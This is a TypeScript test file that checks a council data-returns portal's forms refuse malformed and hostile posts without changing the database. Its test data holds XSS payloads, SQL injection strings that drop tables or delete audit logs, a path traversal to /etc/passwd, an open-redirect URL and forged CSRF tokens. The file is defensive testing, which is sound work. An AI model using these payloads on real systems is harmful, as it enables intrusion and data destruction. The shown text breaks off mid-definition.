/**
 * Bad input: malformed, hostile and absurd form posts (and addresses, and spreadsheets) against
 * every form that changes data. Each must get a clear refusal (a 4xx with a message, or a
 * 400/403/404/409/413 response), never a 5xx, and leave the database exactly as it was. Each is
 * sent twice: to the route's action directly (to read what it answered), and through the build's
 * request handler, which renders the whole page: hostile markup must come back escaped, never raw.
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { en } from "#app/i18n/messages/en.ts";
import { getCollection } from "#app/models/collection.server.ts";
import { DATA_ITEM_FIELDS } from "#app/schema/data-item.ts";
import { raiseQuery } from "#app/models/value-query.server.ts";
import { useDemoDatabase } from "../support/database.ts";
import {
  anonymousCsrfPair,
  expectEveryValueAudited,
  fillPath,
  useInProcessPortal,
  visitorFor,
  visitorWithToken,
} from "../support/hardening.ts";
import { ANALYST, COORDINATOR, OFFICER, run, snapshot, type Visitor } from "../support/requests.ts";
import { CARDIFF, CLOSED_ROUND, DRAFT_ROUND, formAnswers, ITEM, NEWPORT, OPEN_ROUND, prepareReturns, userId } from "./fixtures.ts";

type RouteFn = (args: { request: Request; params: Record<string, string>; context: Record<string, unknown> }) => Promise<unknown>;
type Fields = Record<string, string | string[]>;
type Body = { fields: Fields } | { raw: BodyInit; contentType: string | null };

interface Case {
  name: string;
  route: string;
  params: () => Record<string, string>;
  who: () => Visitor | null;
  body: () => Body | Promise<Body>;
  /** Text the re-rendered page must show, escaped. */
  echoes?: string;
  /** The sign-in form: a failed attempt is recorded by design, so the audit count leaves those out. */
  signIn?: boolean;
}

const SCRIPT = `<script>alert("hardening")</script>`;
const IMG = `"><img src=x onerror=alert(1)>`;
const HOSTILE_MARKUP = [SCRIPT, IMG, `</textarea><script>alert(2)</script>`, `<svg/onload=alert(3)>`];
const RAW_MARKUP = [`<script>alert("hardening")`, `<img src=x onerror`, `<script>alert(2)`, `<svg/onload`];
const SQL = [`'; DROP TABLE value; --`, `1 OR 1=1`, `" OR ""="`, `W06000015' OR '1'='1`, `1); DELETE FROM audit_log; --`];
const MEGABYTE = "x".repeat(1024 * 1024);
const CONTROL = "tab\u0007bell\u001b[31mred\u0008";
const NUL = "before\u0000after";
const ODD_UNICODE = "\u202Eevil\u202C \uFEFF zero\u200Bwidth 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \uD800";
const ABSURD_LOCK_VERSIONS = ["-1", "1e99", "abc", "", "1.5", "99999999999", "Infinity", "NaN", "0x10", "2147483648"];

const MESSAGE_KEYS = new Set(Object.keys(en));
/** The collection form's text fields: the design page's and the new collection page's. */
const COLLECTION_TEXT_FIELDS = ["code", "title_en", "title_cy", "guidance_en", "guidance_cy"];

/** Message keys anywhere in what an action answered. */
function messageKeys(data: unknown): string[] {
  const found: string[] = [];
  const walk = (value: unknown) => {
    if (typeof value === "string" && MESSAGE_KEYS.has(value)) found.push(value);
    else if (Array.isArray(value)) value.forEach(walk);
    else if (value && typeof value === "object") Object.values(value).forEach(walk);
  };
  walk(data);
  return found;
}

describe("bad input: every form refuses what it cannot take, and changes nothing", () => {
  const db = useDemoDatabase();
  const portal = useInProcessPortal();
  const v: Record<"cardiff" | "newport" | "coordinator" | "analyst", Visitor> = {} as never;
  let lock: { cardiff: number; newport: number; closedCardiff: number };
  let queryId: number;
  let anon: { token: string; cookie: string };
  let templates: { cardiff: Buffer; newport: Buffer; closed: Buffer };
  let tried = 0;

  beforeAll(async () => {
    await prepareReturns(db());
    v.cardiff = await visitorWithToken(db(), await userId(db(), OFFICER.cardiff));
    v.newport = await visitorFor(db(), await userId(db(), OFFICER.newport));
    v.coordinator = await visitorFor(db(), await userId(db(), COORDINATOR));
    v.analyst = await visitorFor(db(), await userId(db(), ANALYST));
    const lockOf = async (collection: string, authority: string) =>
      (
        await db()
          .selectFrom("return as r")
          .innerJoin("collection as c", "c.id", "r.collection_id")
          .select("r.lock_version")
          .where("c.code", "=", collection)
          .where("r.authority_code", "=", authority)
          .executeTakeFirstOrThrow()
      ).lock_version;
    lock = {
      cardiff: await lockOf(OPEN_ROUND, CARDIFF),
      newport: await lockOf(OPEN_ROUND, NEWPORT),
      closedCardiff: await lockOf(CLOSED_ROUND, CARDIFF),
    };
    const open = (await getCollection(db(), OPEN_ROUND))!;
    const raised = await raiseQuery(
      db(),
      { collection: open, authorityCode: NEWPORT },
      {
        itemCode: ITEM,
        body: "Is this right?",
        actor: { userId: v.coordinator.userId, role: "coordinator", authorityCode: null },
      },
    );
    expect(raised).toEqual({ ok: true });
    queryId = (await db().selectFrom("value_query").select("id").orderBy("id", "desc").executeTakeFirstOrThrow()).id;
    anon = await anonymousCsrfPair();
    // A draft collection for the design form to be refused on.
    await db()
      .insertInto("collection")
      .values({
        code: DRAFT_ROUND,
        title_en: "Draft",
        title_cy: "Drafft",
        reference_date: "2027-03-31",
        opens_on: "2027-04-01",
        due_on: "2027-05-01",
        guidance_en: "",
        guidance_cy: "",
        rules: JSON.stringify({ crossItem: [], queries: { changePercent: 50, changeAbsolute: 10, outlierScore: 3.5, outlierMinPeers: 5 } }),
        status: "draft",
      })
      .execute();
    const template = async (visitor: Visitor, collection: string, authority: string) => {
      const params = { collectionCode: collection, authorityCode: authority };
      const module = portal.build.routes["routes/returns.$collectionCode.$authorityCode.template[.]xlsx"]!.module as { loader: RouteFn };
      const response = (await module.loader({
        request: new Request(`http://localhost/returns/${collection}/${authority}/template.xlsx`, { headers: { Cookie: visitor.cookie } }),
        params,
        context: {},
      })) as Response;
      expect(response.status).toBe(200);
      return Buffer.from(await response.arrayBuffer());
    };
    templates = {
      cardiff: await template(v.cardiff, OPEN_ROUND, CARDIFF),
      newport: await template(v.newport, OPEN_ROUND, NEWPORT),
      closed: await template(v.cardiff, CLOSED_ROUND, CARDIFF),
    };
  });

  afterAll(() => {
    console.log(`bad input: ${tried} malformed requests tried, each refused with the database unchanged`);
  });

  /** Sends one case to its route's action and through the request handler; both must refuse it and change nothing. */
  async function expectRefused(c: Case) {
    const route = portal.build.routes[c.route];
    if (!route) throw new Error(`no route ${c.route} in the build`);
    const action = (route.module as { action?: RouteFn }).action!;
    const params = c.params();
    const url = `http://localhost${fillPath(route.path, params)}`;
    const who = c.who();
    const body = await c.body();
    const request = () => {
      const anonymousForm = c.signIn || c.route === "routes/set-password.$token" || c.route === "routes/forgot-password";
      const cookies = [who?.cookie, anonymousForm ? anon.cookie : null].filter(Boolean).join("; ");
      const headers = new Headers(cookies ? { Cookie: cookies } : {});
      if ("fields" in body) {
        const form = new URLSearchParams();
        for (const [name, value] of Object.entries(body.fields)) for (const one of [value].flat()) form.append(name, one);
        headers.set("Content-Type", "application/x-www-form-urlencoded");
        return new Request(url, { method: "POST", body: form, headers });
      }
      if (body.contentType) headers.set("Content-Type", body.contentType);
      return new Request(url, { method: "POST", body: body.raw, headers });
    };
    const auditExcept = c.signIn ? ["session.sign_in_failed", "session.sign_in_refused"] : [];
    const sessions = async () =>
      Number(
        (
          await db()
            .selectFrom("session")
            .select((eb) => eb.fn.countAll<number>().as("n"))
            .executeTakeFirstOrThrow()
        ).n,
      );
    const before = await snapshot(db(), { auditExcept });
    const sessionsBefore = await sessions();
    const context: Record<string, unknown> = { clientAddress: `198.18.${tried % 250}.${Math.floor(tried / 250) % 250}` };
    let outcome: Awaited<ReturnType<typeof run>>;
    try {
      outcome = await run(() => action({ request: request(), params, context }));
    } catch (error) {
      throw new Error(`${c.name}: the action failed with ${(error as Error).stack}`);
    }
    expect(outcome.status, `${c.name}: a refusal`).toBeGreaterThanOrEqual(400);
    expect(outcome.status, `${c.name}: a refusal, not a server error`).toBeLessThan(500);
    if (outcome.kind === "data") {
      const data = outcome.data as Record<string, unknown>;
      const said = messageKeys(data).length > 0 || data.conflict === true || typeof data.refused === "string";
      expect(said, `${c.name}: the refusal says why (${JSON.stringify(data).slice(0, 300)})`).toBe(true);
      expect(context.pageHasErrors, `${c.name}: the page title says Error`).toBe(true);
    }
    const rendered = await portal.page(request(), context.clientAddress as string);
    const html = await rendered.text();
    expect(rendered.status, `${c.name}: the rendered page gives the same answer`).toBe(outcome.status);
    for (const raw of RAW_MARKUP) expect(html.includes(raw), `${c.name}: ${raw} came back raw`).toBe(false);
    if (c.echoes) expect(html, `${c.name}: shown back escaped`).toContain(escapeHtml(c.echoes));
    expect(changedParts(before, await snapshot(db(), { auditExcept })), `${c.name}: the database is as it was`).toEqual([]);
    expect(await sessions(), `${c.name}: no session was opened`).toBe(sessionsBefore);
    tried += 1;
  }

  // ---------------------------------------------------------------- the cases

  const returnIndex = "routes/returns.$collectionCode.$authorityCode._index";
  const openCardiff = () => ({ collectionCode: OPEN_ROUND, authorityCode: CARDIFF });
  const openNewport = () => ({ collectionCode: OPEN_ROUND, authorityCode: NEWPORT });

  /** The return form's save, as Cardiff's officer, with its session's token. */
  /** One form's cases: each posts its fields, with the visitor's CSRF token, to the route as that visitor. */
  const formCase =
    (label: string, route: string, params: () => Record<string, string>, who: () => Visitor) =>
    (name: string, fields: () => Fields, echoes?: string): Case => ({
      name: `${label}: ${name}`,
      route,
      params,
      who,
      body: () => ({ fields: { csrf: who().csrf, ...fields() } }),
      echoes,
    });
  const save = formCase("save", returnIndex, openCardiff, () => v.cardiff);
  /** A whole valid return with one field changed, and (to be sure it is refused) a number that is not one. */
  const poisoned = (overrides: Record<string, Record<string, string>>) =>
    formAnswers({ care_experienced_fathers: { state: "reported", number: "three" }, ...overrides }, lock.cardiff);
  const withValue = (value: Record<string, string>) => formAnswers({ [ITEM]: value }, lock.cardiff);

  const saveCases: Case[] = [
    ...["abc", "1e99", "-1", "12.5", "0x1F", "NaN", "Infinity", "１２", "١٢٣", "9".repeat(1024 * 1024), "1,2,3", "1 000 000 000 000"].map(
      (n) => save(`the number ${JSON.stringify(n.slice(0, 20))}`, () => withValue({ state: "reported", number: n })),
    ),
    ...SQL.map((s) => save(`SQL as the number ${s}`, () => withValue({ state: "reported", number: s }))),
    ...[...HOSTILE_MARKUP, "REPORTED' --", MEGABYTE, NUL, ""].map((s) =>
      save(`the state ${JSON.stringify(s.slice(0, 30))}`, () => withValue({ cannot: "yes", state: s || "maybe", number: "5" })),
    ),
    save("a reason of 1 MB", () => withValue({ state: "unknown", cannot: "yes", reason: MEGABYTE })),
    save("control characters in a reason", () => withValue({ state: "unknown", cannot: "yes", reason: CONTROL })),
    save("a NUL byte in a reason", () => withValue({ state: "unknown", cannot: "yes", reason: NUL })),
    save("a caveat of 1 MB", () => withValue({ state: "reported", number: "5", caveat: MEGABYTE })),
    save("a counting note of 1 MB", () => withValue({ state: "reported", number: "5", countingNote: MEGABYTE })),
    save("a query explanation of 1 MB", () => withValue({ state: "reported", number: "5", queryExplanation: MEGABYTE })),
    save("control characters in a caveat", () => withValue({ state: "reported", number: "5", caveat: CONTROL })),
    save("a NUL byte in a caveat", () => withValue({ state: "reported", number: "5", caveat: NUL })),
    ...HOSTILE_MARKUP.map((s) =>
      save(`markup in the caveat ${s}`, () => poisoned({ [ITEM]: { state: "reported", number: "5", caveat: s } }), s),
    ),
    ...HOSTILE_MARKUP.map((s) =>
      save(`markup in the reason ${s}`, () => poisoned({ [ITEM]: { state: "not_collected", cannot: "yes", reason: s } }), s),
    ),
    save("markup in a counting note", () => poisoned({ [ITEM]: { state: "reported", number: "5", countingNote: SCRIPT } }), SCRIPT),
    save("markup in a query explanation", () => poisoned({ [ITEM]: { state: "reported", number: "5", queryExplanation: IMG } }), IMG),
    save("odd unicode in a caveat, with a bad number", () => poisoned({ [ITEM]: { state: "reported", number: "5", caveat: ODD_UNICODE } })),
    ...SQL.map((s) =>
      save(`SQL in a caveat, with a bad number: ${s}`, () => poisoned({ [ITEM]: { state: "reported", number: "5", caveat: s } })),
    ),
    ...["abc", "-5", "121", "1e3", "<b>18</b>"].map((age) =>
      save(`the age band from ${age}`, () => withValue({ state: "reported", number: "5", ageFrom: age, ageTo: "25" })),
    ),
    save("an age band upside down", () => withValue({ state: "reported", number: "5", ageFrom: "25", ageTo: "18" })),
    ...[
      ["32", "1", "2026"],
      ["1", "13", "2026"],
      ["1", "1", "99999"],
      ["a", "b", "c"],
      ["29", "2", "2025"],
      ["1", "1", "2999"],
    ].map(([d, m, y]) =>
      save(`the reference date ${d}/${m}/${y}`, () => withValue({ state: "reported", number: "5", refDay: d!, refMonth: m!, refYear: y! })),
    ),
    ...ABSURD_LOCK_VERSIONS.map((lv) =>
      save(`the lock version ${JSON.stringify(lv)}`, () => ({
        ...formAnswers({ [ITEM]: { state: "reported", number: "77" } }),
        lockVersion: lv,
      })),
    ),
    save("a lock version from before the last save", () => formAnswers({ [ITEM]: { state: "reported", number: "77" } }, lock.cardiff - 1)),
    save("a lock version from the future", () => formAnswers({ [ITEM]: { state: "reported", number: "77" } }, lock.cardiff + 5)),
    save("no lock version at all", () => {
      const { lockVersion: _drop, ...rest } = formAnswers({ [ITEM]: { state: "reported", number: "77" } }, lock.cardiff);
      return rest;
    }),
    save("two lock versions, the first stale", () => ({
      ...formAnswers({ [ITEM]: { state: "reported", number: "77" } }),
      lockVersion: [String(lock.cardiff - 1), String(lock.cardiff)],
    })),
    save("a number twice, the first not a number", () => ({ ...withValue({ state: "reported" }), [`${ITEM}.number`]: ["abc", "5"] })),
    save("a state twice, the first unknown", () => ({
      ...withValue({ cannot: "yes", number: "5" }),
      [`${ITEM}.state`]: ["sometimes", "reported"],
    })),
    ...["drop", "SAVE", "", SCRIPT, "accept"].map((intent) =>
      save(`the intent ${JSON.stringify(intent)}`, () => ({ ...withValue({ state: "reported", number: "77" }), intent })),
    ),
    save("no intent", () => {
      const { intent: _drop, ...rest } = withValue({ state: "reported", number: "77" });
      return rest;
    }),
  ];

  const csrfCases: Case[] = [
    { ...save("", () => ({})), name: "save: no CSRF token", body: () => ({ fields: withValue({ state: "reported", number: "77" }) }) },
    {
      ...save("", () => ({})),
      name: "save: a wrong CSRF token",
      body: () => ({ fields: { csrf: "x".repeat(43), ...withValue({ state: "reported", number: "77" }) } }),
    },
    {
      ...save("", () => ({})),
      name: "save: another session's CSRF token",
      body: () => ({ fields: { csrf: v.newport.csrf, ...withValue({ state: "reported", number: "77" }) } }),
    },
    {
      ...save("", () => ({})),
      name: "save: an empty CSRF token",
      body: () => ({ fields: { csrf: "", ...withValue({ state: "reported", number: "77" }) } }),
    },
    {
      ...save("", () => ({})),
      name: "save: two CSRF tokens, the first wrong",
      body: () => ({ fields: { csrf: ["wrong", v.cardiff.csrf], ...withValue({ state: "reported", number: "77" }) } }),
    },
    {
      ...save("", () => ({})),
      name: "save: a CSRF token of 1 MB",
      body: () => ({ fields: { csrf: MEGABYTE, ...withValue({ state: "reported", number: "77" }) } }),
    },
  ];

  const notAForm = (name: string, raw: () => BodyInit, contentType: string | null): Case => ({
    name: `save: ${name}`,
    route: returnIndex,
    params: openCardiff,
    who: () => v.cardiff,
    body: () => ({ raw: raw(), contentType }),
  });
  const bodyCases: Case[] = [
    notAForm("a JSON body", () => JSON.stringify({ csrf: v.cardiff.csrf, intent: "save", lockVersion: lock.cardiff }), "application/json"),
    notAForm(
      "a JSON body sent as a form",
      () => JSON.stringify({ csrf: v.cardiff.csrf, intent: "save" }),
      "application/x-www-form-urlencoded",
    ),
    notAForm(
      "garbage bytes sent as a form",
      () => new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)),
      "application/x-www-form-urlencoded",
    ),
    notAForm(
      "garbage bytes as multipart",
      () => new Uint8Array(Array.from({ length: 4096 }, (_, i) => (i * 31) % 256)),
      "multipart/form-data; boundary=xyz",
    ),
    notAForm(
      "a multipart body without its boundary",
      () => `--xyz\r\nContent-Disposition: form-data; name="csrf"\r\n\r\nabc\r\n--xyz--`,
      "multipart/form-data",
    ),
    notAForm("plain text", () => `csrf=${v.cardiff.csrf}&intent=save`, "text/plain"),
    notAForm("XML", () => `<form><csrf>${v.cardiff.csrf}</csrf></form>`, "application/xml"),
    notAForm("no content type", () => `csrf=${v.cardiff.csrf}&intent=save`, null),
    notAForm("an empty body", () => "", "application/x-www-form-urlencoded"),
  ];

  const checkRoute = "routes/returns.$collectionCode.$authorityCode.check";
  const submit = formCase("submit", checkRoute, openCardiff, () => v.cardiff);
  const declaration = (over: Fields) => ({
    lockVersion: String(lock.cardiff),
    signedOffName: "Siân Evans",
    signedOffRole: "Head of Service",
    ...over,
  });
  const stale = (over: Fields) => declaration({ lockVersion: String(lock.cardiff - 1), ...over });
  const submitCases: Case[] = [
    ...ABSURD_LOCK_VERSIONS.map((lv) => submit(`the lock version ${JSON.stringify(lv)}`, () => declaration({ lockVersion: lv }))),
    submit("a name of 201 characters", () => declaration({ signedOffName: "n".repeat(201) })),
    submit("a name of 1 MB", () => declaration({ signedOffName: MEGABYTE })),
    submit("a role of 1 MB", () => declaration({ signedOffRole: MEGABYTE })),
    submit("a blank name", () => declaration({ signedOffName: "   " })),
    submit("no role", () => ({ lockVersion: String(lock.cardiff), signedOffName: "Siân" })),
    submit("a NUL byte in the name", () => declaration({ signedOffName: NUL })),
    submit("a NUL byte in the role", () => declaration({ signedOffRole: NUL })),
    submit("control characters in the name, from a stale page", () => stale({ signedOffName: CONTROL })),
    ...HOSTILE_MARKUP.map((s) => submit(`markup in the name, from a stale page: ${s}`, () => stale({ signedOffName: s }), s)),
    submit("markup in the role, with no name", () => declaration({ signedOffName: "", signedOffRole: SCRIPT }), SCRIPT),
    ...SQL.slice(0, 2).map((s) => submit(`SQL in the name, from a stale page: ${s}`, () => stale({ signedOffName: s }))),
  ];

  const amendRoute = "routes/returns.$collectionCode.$authorityCode.amend";
  const amend = formCase("amend", amendRoute, openNewport, () => v.newport);
  const reason = (over: Fields) => ({ lockVersion: String(lock.newport), reason: "A figure was wrong.", ...over });
  const amendCases: Case[] = [
    ...ABSURD_LOCK_VERSIONS.map((lv) => amend(`the lock version ${JSON.stringify(lv)}`, () => reason({ lockVersion: lv }))),
    amend("no reason", () => reason({ reason: "" })),
    amend("a reason of 1001 characters", () => reason({ reason: "r".repeat(1001) })),
    amend("a reason of 1 MB", () => reason({ reason: MEGABYTE })),
    amend("a NUL byte in the reason", () => reason({ reason: NUL })),
    ...HOSTILE_MARKUP.map((s) =>
      amend(`markup in the reason, from a stale page: ${s}`, () => reason({ lockVersion: String(lock.newport - 1), reason: s }), s),
    ),
  ];

  const loginCase = (name: string, fields: () => Fields, echoes?: string): Case => ({
    name: `sign in: ${name}`,
    route: "routes/login",
    params: () => ({}),
    who: () => null,
    body: () => ({ fields: { csrf: anon.token, ...fields() } }),
    echoes,
    signIn: true,
  });
  const loginCases: Case[] = [
    loginCase("an email of 1 MB", () => ({ email: MEGABYTE, password: "wrong-password-123" })),
    loginCase("a password of 1 MB", () => ({ email: "someone.1@authorities.example", password: MEGABYTE })),
    loginCase("a NUL byte in the email", () => ({ email: `someone${NUL}@authorities.example`, password: "wrong-password-123" })),
    loginCase("a NUL byte in the password", () => ({ email: "someone.2@authorities.example", password: `demo${NUL}password` })),
    loginCase("control characters in the email", () => ({ email: `someone${CONTROL}@x.example`, password: "wrong" })),
    ...HOSTILE_MARKUP.map((s, i) =>
      loginCase(`markup as the email: ${s}`, () => ({ email: `${s}${i}@x.example`, password: "wrong" }), `${s}${i}@x.example`),
    ),
    ...SQL.map((s) => loginCase(`SQL as the email: ${s}`, () => ({ email: s, password: s }))),
    loginCase("no email or password", () => ({})),
    loginCase("two emails, the first unknown", () => ({ email: ["nobody.3@x.example", OFFICER.cardiff], password: "demo-password-2023" })),
    loginCase("a returnTo elsewhere, with a wrong password", () => ({
      email: "someone.4@x.example",
      password: "wrong",
      returnTo: "https://evil.example/",
    })),
    {
      ...loginCase("", () => ({})),
      name: "sign in: no CSRF token",
      body: () => ({ fields: { email: OFFICER.cardiff, password: "demo-password-2023" } }),
    },
    {
      ...loginCase("", () => ({})),
      name: "sign in: a wrong CSRF token",
      body: () => ({ fields: { csrf: "forged", email: OFFICER.cardiff, password: "demo-password-2023" } }),
    },
    {
      ...loginCase("", () => ({})),
      name: "sign in: a JSON body",
      body: () => ({ raw: JSON.stringify({ csrf: anon.token, email: OFFICER.cardiff }), contentType: "application/json" }),
    },
  ];

  /**
   * The coordinator's (and the officer's) actions on queries and acceptance, on Newport's submitted
   * return: raising a query (queries/new), a thread's reply and resolve (queries/<id>), accepting.
   */
  const QUERY_ROUTES = {
    raise: "routes/returns.$collectionCode.$authorityCode.queries.new",
    thread: "routes/returns.$collectionCode.$authorityCode.queries.$queryId",
    accept: "routes/returns.$collectionCode.$authorityCode.accept",
  } as const;
  const onQuery = (
    name: string,
    to: keyof typeof QUERY_ROUTES,
    who: () => Visitor,
    fields: () => Fields,
    params: () => Record<string, string> = openNewport,
    echoes?: string,
  ): Case => ({
    name: `queries: ${name}`,
    route: QUERY_ROUTES[to],
    params,
    who,
    body: () => ({ fields: { csrf: who().csrf, ...fields() } }),
    echoes,
  });
  const coordinator = () => v.coordinator;
  const newportOfficer = () => v.newport;
  const closedCardiff = () => ({ collectionCode: CLOSED_ROUND, authorityCode: CARDIFF });
  const onThread = (id: () => string) => () => ({ ...openNewport(), queryId: id() });
  const newportThread = onThread(() => String(queryId));
  const queryCases: Case[] = [
    onQuery("raise on an item the collection does not have", "raise", coordinator, () => ({ itemCode: "no_such_item", message: "Why?" })),
    ...SQL.slice(0, 3).map((s) => onQuery(`raise on the item ${s}`, "raise", coordinator, () => ({ itemCode: s, message: "Why?" }))),
    onQuery("raise with no message", "raise", coordinator, () => ({ itemCode: ITEM, message: "  " })),
    onQuery("raise with 2001 characters", "raise", coordinator, () => ({ itemCode: ITEM, message: "m".repeat(2001) })),
    onQuery("raise with 1 MB", "raise", coordinator, () => ({ itemCode: ITEM, message: MEGABYTE })),
    onQuery("raise with control characters", "raise", coordinator, () => ({ itemCode: ITEM, message: CONTROL })),
    onQuery("raise with a NUL byte", "raise", coordinator, () => ({ itemCode: ITEM, message: NUL })),
    ...HOSTILE_MARKUP.map((s) =>
      onQuery(`raise markup on an unknown item: ${s}`, "raise", coordinator, () => ({ itemCode: "nope", message: s })),
    ),
    ...["abc", "1e99", "-1", "99999999999", "1.5", "2147483648"].map((id) =>
      onQuery(
        `reply to the query ${JSON.stringify(id)}`,
        "thread",
        newportOfficer,
        () => ({ intent: "reply", message: "Here is why." }),
        onThread(() => id),
      ),
    ),
    ...["1e99", "99999999999", "abc"].map((id) =>
      onQuery(
        `resolve the query ${JSON.stringify(id)}`,
        "thread",
        coordinator,
        () => ({ intent: "resolve", message: "" }),
        onThread(() => id),
      ),
    ),
    onQuery("reply with no message", "thread", newportOfficer, () => ({ intent: "reply", message: " " }), newportThread),
    ...["", "drop", SCRIPT, "raise"].map((intent) =>
      onQuery(`the thread intent ${JSON.stringify(intent)}`, "thread", coordinator, () => ({ intent, message: "Done." }), newportThread),
    ),
    onQuery("reply with 1 MB", "thread", newportOfficer, () => ({ intent: "reply", message: MEGABYTE }), newportThread),
    onQuery("reply with a NUL byte", "thread", newportOfficer, () => ({ intent: "reply", message: NUL }), newportThread),
    onQuery(
      "reply with markup and control characters",
      "thread",
      newportOfficer,
      () => ({ intent: "reply", message: `${SCRIPT}${CONTROL}` }),
      newportThread,
    ),
    onQuery("resolve with a message of 1 MB", "thread", coordinator, () => ({ intent: "resolve", message: MEGABYTE }), newportThread),
    ...ABSURD_LOCK_VERSIONS.map((lv) =>
      onQuery(`accept with the lock version ${JSON.stringify(lv)}`, "accept", coordinator, () => ({ lockVersion: lv }), closedCardiff),
    ),
    onQuery("accept from a stale page", "accept", coordinator, () => ({ lockVersion: String(lock.closedCardiff - 1) }), closedCardiff),
    onQuery("accept a return with a query open", "accept", coordinator, () => ({ lockVersion: String(lock.newport) })),
  ];

  const designRoute = "routes/collections.$code.design";
  const design = formCase("design", designRoute, () => ({ code: DRAFT_ROUND }), coordinator);
  const dateFields = (field: string, day: string, month: string, year: string): Fields => ({
    [`${field}-day`]: day,
    [`${field}-month`]: month,
    [`${field}-year`]: year,
  });
  const collectionForm = (over: Fields): Fields => ({
    code: DRAFT_ROUND,
    title_en: "A round",
    title_cy: "Rownd",
    guidance_en: "",
    guidance_cy: "",
    ...dateFields("reference_date", "31", "3", "2027"),
    ...dateFields("opens_on", "1", "4", "2027"),
    ...dateFields("due_on", "1", "5", "2027"),
    [`item.${ITEM}`]: "yes",
    [`position.${ITEM}`]: "1",
    [`required.${ITEM}`]: "yes",
    "rule.0.kind": "",
    changePercent: "50",
    changeAbsolute: "10",
    outlierScore: "3.5",
    outlierMinPeers: "5",
    smallCountMax: "4",
    ...over,
  });
  const badDate = dateFields("due_on", "30", "2", "2027");
  const designCases: Case[] = [
    design("a title of 1 MB", () => collectionForm({ title_en: MEGABYTE })),
    design("a Welsh title of 201 characters", () => collectionForm({ title_cy: "t".repeat(201) })),
    design("no title", () => collectionForm({ title_en: "" })),
    design("guidance of 1 MB", () => collectionForm({ guidance_en: MEGABYTE })),
    ...[
      ["30", "2", "2027"],
      ["abc", "1", "2027"],
      ["1", "1", "99999"],
      [MEGABYTE, "1", "2027"],
      ["1", "13", "2027"],
      ["1", "", "2027"],
      ["1", "1", "'; DROP TABLE collection; --"],
    ].map(([day, month, year]) =>
      design(`the due date ${JSON.stringify([day, month, year].map((p) => p!.slice(0, 20)))}`, () =>
        collectionForm(dateFields("due_on", day!, month!, year!)),
      ),
    ),
    design("due before it opens", () =>
      collectionForm({ ...dateFields("opens_on", "1", "6", "2027"), ...dateFields("due_on", "1", "5", "2027") }),
    ),
    ...["abc", "2", "1e99"].map((p) => design(`the outlier peers ${JSON.stringify(p)}`, () => collectionForm({ outlierMinPeers: p }))),
    ...["abc", "1e99", "-1", "NaN", "Infinity", "0", MEGABYTE].map((p) =>
      design(`the change threshold ${JSON.stringify(p.slice(0, 20))}`, () => collectionForm({ changePercent: p })),
    ),
    ...["abc", "-1", "100", "2.5", MEGABYTE].map((p) =>
      design(`the largest confidential count ${JSON.stringify(p.slice(0, 20))}`, () => collectionForm({ smallCountMax: p })),
    ),
    design("a fractional absolute threshold", () => collectionForm({ changeAbsolute: "1.5" })),
    design("no items", () => collectionForm({ [`item.${ITEM}`]: "" })),
    design("only an item the catalogue does not have", () => collectionForm({ [`item.${ITEM}`]: "", "item.no_such_item": "yes" })),
    design("a sum with one part", () => collectionForm({ "rule.0.kind": "sum_equals", "rule.0.item": ITEM, "rule.0.parts": ITEM })),
    design("a rule kind of 1 MB", () => collectionForm({ "rule.0.kind": MEGABYTE, "rule.0.item": ITEM })),
    design("a rule on an item of 1 MB", () =>
      collectionForm({ "rule.0.kind": "not_greater_than", "rule.0.item": MEGABYTE, "rule.0.limit": ITEM }),
    ),
    design("a rule on an item not asked for", () =>
      collectionForm({ "rule.0.kind": "not_greater_than", "rule.0.item": ITEM, "rule.0.limit": "care_experienced_parents" }),
    ),
    design("SQL as a rule's item", () =>
      collectionForm({ "rule.0.kind": "not_greater_than", "rule.0.item": SQL[0]!, "rule.0.limit": ITEM }),
    ),
    ...HOSTILE_MARKUP.map((s) =>
      design(`markup in the title, with a bad date: ${s}`, () => collectionForm({ title_en: s, ...badDate }), s),
    ),
    design("markup in the guidance, with a bad date", () => collectionForm({ guidance_cy: SCRIPT, ...badDate }), SCRIPT),
    design("a NUL byte in the title", () => collectionForm({ title_en: NUL })),
    design("a NUL byte in the guidance, with a bad date", () => collectionForm({ guidance_en: NUL, ...badDate })),
  ];

  const newCollection = formCase("new collection", "routes/collections.new", () => ({}), coordinator);
  const newCollectionCases: Case[] = [
    ...["../../etc/passwd", "UPPER Case!", "a--b", "x".repeat(81), MEGABYTE, SQL[0]!, ""].map((code) =>
      newCollection(`the code ${JSON.stringify(code.slice(0, 20))}`, () => collectionForm({ code })),
    ),
    newCollection("a code already taken", () => collectionForm({ code: OPEN_ROUND })),
    newCollection("markup in the code", () => collectionForm({ code: SCRIPT }), SCRIPT),
    newCollection("a NUL byte in the code", () => collectionForm({ code: `new${NUL}code` })),
  ];

  const catalogueNew = formCase("new catalogue item", "routes/catalogue.new", () => ({}), coordinator);
  const itemForm = (over: Fields): Fields => ({
    code: "hardening_item",
    label_en: "Label",
    label_cy: "Label",
    definition_en: "Definition",
    definition_cy: "Diffiniad",
    min_value: "0",
    max_value: "",
    age_from: "",
    age_to: "",
    parent_code: "",
    ...over,
  });
  const catalogueCases: Case[] = [
    ...["Has Spaces", "dash-es", ITEM, SQL[0]!, "x".repeat(81), ""].map((code) =>
      catalogueNew(`the code ${JSON.stringify(code.slice(0, 20))}`, () => itemForm({ code })),
    ),
    catalogueNew("a label of 1 MB", () => itemForm({ label_en: MEGABYTE })),
    catalogueNew("a definition of 3001 characters", () => itemForm({ definition_cy: "d".repeat(3001) })),
    ...["1e99", "-1", "abc", "2147483648"].map((n) => catalogueNew(`the minimum ${n}`, () => itemForm({ min_value: n }))),
    catalogueNew("a maximum below the minimum", () => itemForm({ min_value: "10", max_value: "5" })),
    catalogueNew("an age of 121", () => itemForm({ age_from: "121" })),
    catalogueNew("an age band upside down", () => itemForm({ age_from: "25", age_to: "18" })),
    catalogueNew("a parent that does not exist", () => itemForm({ parent_code: "no_such_parent" })),
    catalogueNew("SQL as the parent", () => itemForm({ parent_code: SQL[3]! })),
    ...HOSTILE_MARKUP.map((s) =>
      catalogueNew(`markup in the label, with a bad code: ${s}`, () => itemForm({ code: "Bad Code", label_en: s }), s),
    ),
    catalogueNew("a NUL byte in the label", () => itemForm({ label_en: NUL })),
    catalogueNew("a NUL byte in the definition, with a bad code", () => itemForm({ code: "Bad Code", definition_en: NUL })),
  ];
  const catalogueDelete = (code: string): Case => ({
    name: `delete catalogue item ${JSON.stringify(code.slice(0, 30))}`,
    route: "routes/catalogue._index",
    params: () => ({}),
